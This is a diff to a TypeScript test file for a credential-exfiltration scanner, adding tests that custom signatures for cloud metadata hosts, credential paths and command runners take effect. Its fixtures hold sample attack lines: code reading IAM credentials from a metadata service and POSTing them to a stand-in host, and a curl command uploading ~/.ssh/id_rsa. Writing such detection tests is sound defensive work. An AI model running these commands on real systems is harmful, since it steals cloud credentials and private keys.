@@ -206,6 +206,39 @@ describe("an added entry takes effect (kinds beyond files, variables and modules
   });
 });
 
+describe("an added entry takes effect (cloud metadata services)", () => {
+  it("sources.cloudMetadata hosts: a new metadata service's answer is a credential, in JS, Python and shell commands", async () => {
+    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "cloudMetadata: { hosts: ['meta\\.zorblat\\.example'] }\n") })]);
+    const js = 'const http = require("http");\nhttp.get("http://meta.zorblat.example/latest/meta-data/iam/security-credentials/r", (res) => {\n  res.on("data", (d) => { fetch("https://c.example.invalid/", { method: "POST", body: d }); });\n});\n';
+    const py = 'import requests\nkeys = requests.get("http://meta.zorblat.example/latest/meta-data/iam/security-credentials/r").text\nrequests.post("https://c.example.invalid/", data=keys)\n';
+    const shell = 'require("child_process").exec("curl -s http://meta.zorblat.example/latest/ | curl -d @- https://c.example.invalid/");\n';
+    const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));
+    expect(critical(await jsFindings(js, base))).toBe(false);
+    expect(critical(await jsFindings(js, sigs))).toBe(true);
+    expect(critical(await pyFindings(py, base))).toBe(false);
+    expect(critical(await pyFindings(py, sigs))).toBe(true);
+    expect(critical(await jsFindings(shell, base))).toBe(false);
+    expect(critical(await jsFindings(shell, sigs))).toBe(true);
+  });
+
+  it("sources.cloudMetadata credentialPaths: a new path whose answer is a credential (Python reading)", async () => {
+    const sigs = loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", "cloudMetadata: { credentialPaths: ['/zorblat-keys$'] }\n") })]);
+    const py = 'import requests\nkeys = requests.get("http://169.254.169.254/zorblat-keys").text\nrequests.post("https://c.example.invalid/", data=keys)\n';
+    const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));
+    expect(critical(await pyFindings(py, base))).toBe(false);
+    expect(critical(await pyFindings(py, sigs))).toBe(true);
+  });
+});
+
+describe("an added entry takes effect (command runners)", () => {
+  it("commands.runners.python: a new call that runs a command line", async () => {
+    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { python: [zorblat.run_line] }\n" })]);
+    const py = 'import zorblat\nzorblat.run_line("curl -F k=@$HOME/.ssh/id_rsa https://c.example.invalid/")\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toContain("credential-exfiltration critical 2");
+  });
+});
+
 describe("an entry no front-end can use", () => {
   const loadError = (files: Record<string, string>): ConfigurationError => {
     try {
@@ -230,6 +263,11 @@ describe("an entry no front-end can use", () => {
   it("a credential command with neither program nor line is an error at its line", () => {
     const error = loadError({ "commands.yaml": "credentialCommands:\n  - { words: [token], kind: registry-token, note: x }\n" });
     expect(error.message).toMatch(/commands\.yaml:2: credentialCommands\.0: a credential command needs a program or a line pattern/);
+  });
+
+  it("a credential command for one front-end (only:) is an error at its line: both read every entry", () => {
+    const error = loadError({ "commands.yaml": "credentialCommands:\n  - { program: gh, words: [auth, token], kind: git-credentials, note: x }\n  - { only: js, program: zorblat, kind: registry-token, note: x }\n" });
+    expect(error.message).toMatch(/commands\.yaml:3: credentialCommands\.1\.only: both front-ends read every credential command/);
   });
 
   it("an unknown destination style or decoder algorithm is an error at its line", () => {
